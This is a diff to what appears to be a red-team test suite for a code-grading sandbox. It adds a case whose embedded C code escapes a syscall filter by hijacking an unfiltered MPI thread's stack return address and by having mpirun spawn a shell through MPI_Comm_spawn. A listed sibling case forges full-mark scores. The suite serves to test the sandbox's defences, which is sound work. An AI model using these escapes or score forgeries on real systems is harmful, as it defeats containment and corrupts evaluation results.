@@ -151,6 +151,7 @@ static int rt_others(long *pids, int max)
 """
 
 L01 = ["01.1", "01.2", "01.3", "01.4", "01.5", "01.6", "01.7", "01.8", "01"]
+L06 = ["06.1", "06.2", "06.3", "06.4", "06"]
 
 # Only the filter: as root, the runner then keeps the grader's user and may not write.
 FILTER_ONLY = "-ns,-landlock,-user"
@@ -644,6 +645,122 @@ static void rt_survive(void)
 """
 
 
+# ---- the ranks of Lesson 06: what MPI left in their processes ------------------------------
+
+RANKS = r"""
+#include <dlfcn.h>
+#include <pthread.h>
+/* A thread MPI started before the filter runs without it (the filter is a thread's): its
+ * stack is this process's memory, so a return address on it can be pointed at code that
+ * execs the shell, and the thread woken. */
+__attribute__((force_align_arg_pointer)) static void rt_unfiltered(void)
+{
+    rt_exec_shell("execve on a thread without the filter");
+    rt_sys(SYS_exit, 0, 0, 0, 0, 0, 0);
+}
+
+static void rt_hijack(const char *tid)
+{
+    char path[128], text[512];
+    snprintf(path, sizeof path, "/proc/self/task/%s/syscall", tid);
+    unsigned long v[9];
+    if (rt_read(path, text, sizeof text) <= 0 ||
+        sscanf(text, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &v[0], &v[1], &v[2], &v[3], &v[4],
+               &v[5], &v[6], &v[7], &v[8]) != 9)
+        return;
+    /* the first word above its stack pointer that points into code: a return address */
+    static char maps[1 << 18];
+    if (rt_read("/proc/self/maps", maps, sizeof maps) <= 0) return;
+    uintptr_t *sp = (uintptr_t *)v[7];
+    for (int k = 0; k < 64; k++) {
+        for (char *l = maps; *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : l + strlen(l)) {
+            unsigned long lo, hi;
+            char perms[8];
+            if (sscanf(l, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[2] == 'x' && lo <= sp[k] &&
+                sp[k] < hi) {
+                sp[k] = (uintptr_t)rt_unfiltered;
+                goto wake;
+            }
+        }
+    }
+    return;
+wake:;
+    /* wake it: every eventfd and pipe the progress threads wait on */
+    for (int fd = 3; fd < 256; fd++) {
+        char link[64], to[128];
+        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
+        ssize_t n = readlink(link, to, sizeof to - 1);
+        if (n <= 0) continue;
+        to[n] = '\0';
+        uint64_t one = 1;
+        if (strstr(to, "eventfd") || strstr(to, "pipe:")) {
+            ssize_t w = write(fd, &one, sizeof one);
+            (void)w;
+        }
+    }
+    sleep(1);
+}
+
+static void rt_rank_threads(void)
+{
+    DIR *d = opendir("/proc/self/task");
+    struct dirent *e;
+    char path[128], status[4096], what[200];
+    while (d && (e = readdir(d))) {
+        if (e->d_name[0] == '.') continue;
+        snprintf(path, sizeof path, "/proc/self/task/%s/status", e->d_name);
+        if (rt_read(path, status, sizeof status) <= 0 || !strstr(status, "Seccomp:\t0")) continue;
+        snprintf(what, sizeof what, "thread %s of a rank runs without the filter", e->d_name);
+        rt_escaped(what, 0);
+        rt_hijack(e->d_name);
+    }
+    if (d) closedir(d);
+}
+
+/* mpirun runs without the filter (it must start the ranks): MPI_Comm_spawn asks it, over
+ * the socket every rank has, to start a program. The shell leaves a file in the ranks'
+ * TMPDIR, which this rank looks for while a thread of its own waits in the spawn. */
+static char rt_spawned[512];
+
+static void *rt_spawn_thread(void *arg)
+{
+    (void)arg;
+    typedef int (*Spawn)(const char *, char *[], int, void *, int, void *, void **, int *);
+    Spawn spawn = (Spawn)dlsym(RTLD_DEFAULT, "MPI_Comm_spawn");
+    void *self = dlsym(RTLD_DEFAULT, "ompi_mpi_comm_self");
+    void *info = dlsym(RTLD_DEFAULT, "ompi_mpi_info_null");
+    if (!spawn || !self || !info) {
+        dprintf(2, "rt: MPI_Comm_spawn not found\n");
+        return NULL;
+    }
+    static char script[sizeof rt_script + 600];
+    snprintf(script, sizeof script, "touch '%s'; %s", rt_spawned, rt_script);
+    char *args[] = {"-c", script, NULL};
+    void *children = NULL;
+    int errs[1] = {0};
+    spawn("/bin/sh", args, 1, info, 0, self, &children, errs);
+    return NULL;
+}
+
+static void rt_rank_spawn(void)
+{
+    const char *tmp = getenv("TMPDIR");
+    snprintf(rt_spawned, sizeof rt_spawned, "%s/rt-spawned-%d", tmp ? tmp : "/tmp", (int)getpid());
+    pthread_t t;
+    if (pthread_create(&t, NULL, rt_spawn_thread, NULL) != 0) return;
+    for (int i = 0; i < 40; i++) {
+        struct stat st;
+        if (stat(rt_spawned, &st) == 0) {
+            rt_escaped("mpirun started a shell for a rank (MPI_Comm_spawn)", 0);
+            fflush(NULL);
+            _exit(1);
+        }
+        usleep(100000);
+    }
+}
+"""
+
+
 # ---- the CUDA file: C++, and the same shell -----------------------------------------------
 
 CU_SYSTEM = r"""#include <cstdio>
@@ -731,6 +848,13 @@ SANDBOX_FORGERIES = [
               extra=SURVIVOR, post_exit=True,
               why="a process that outlives its case and the driver and then rewrites "
                   "results.json and score.txt with full marks"),
+    dict(name="rank-escapes", lesson="06_data_parallel", base="stubs",
+         changes=[(None, "top", PRELUDE + RANKS),
+                  ("bucket_average", "prefix", "rt_watch(); rt_rank_threads(); rt_rank_spawn();")],
+         zero=L06, says="", unchecked=True, layers=[FILTER_ONLY],
+         why="a rank of a 2-rank case hijacks a thread that MPI started before the filter "
+             "(its return address on its stack), and asks mpirun, which starts the ranks "
+             "and so runs without the filter, to spawn a shell (MPI_Comm_spawn)"),
     dict(name="cu-system", lesson="02_device_transfer", file="exercises.cu", base="stubs",
          changes=[(None, "top", CU_SYSTEM),
                   ("k_relu_forward", "prefix", "rt_cu_shell();")],
